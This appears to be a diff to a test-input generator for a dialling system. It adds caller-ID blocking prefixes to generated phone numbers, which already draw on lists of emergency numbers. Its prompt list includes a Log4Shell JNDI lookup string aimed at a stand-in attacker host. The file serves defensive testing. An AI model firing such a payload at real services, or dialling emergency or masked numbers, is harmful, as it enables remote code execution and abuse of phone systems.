@@ -19,6 +19,8 @@ PROMPTS = (
     "${jndi:ldap://evil.example/x}",
 )
 OUTSIDE = ("", "9", "0", "9,", "9w", "8", "1", "1,9,", "#", "*9", "#9,w", "00", "5#9")
+HIDDEN = ("", "", "", "*67", "1167")
+"""What hides the number that calls, in North America."""
 ABROAD = ("011", "00", "0011", "")
 HELP = ("911", "112", "999", "9911", "0112", "9,911", "9,9,1,1", "#911", "1#911", "9110", "110")
 
@@ -78,7 +80,8 @@ class Adversary:
         prefix = self._chance.choice(ABROAD)
         if not prefix and digits.startswith("1"):
             digits = self._chance.choice([digits, digits[1:]])
-        dialled = f"{self._chance.choice(OUTSIDE)}{prefix}{digits}"
+        hidden = self._chance.choice(HIDDEN)
+        dialled = f"{self._chance.choice(OUTSIDE)}{hidden}{prefix}{digits}"
         gap = self._chance.choice(["", "", "", ",", "w"])
         return gap.join(dialled) if len(dialled) < 40 else dialled
 
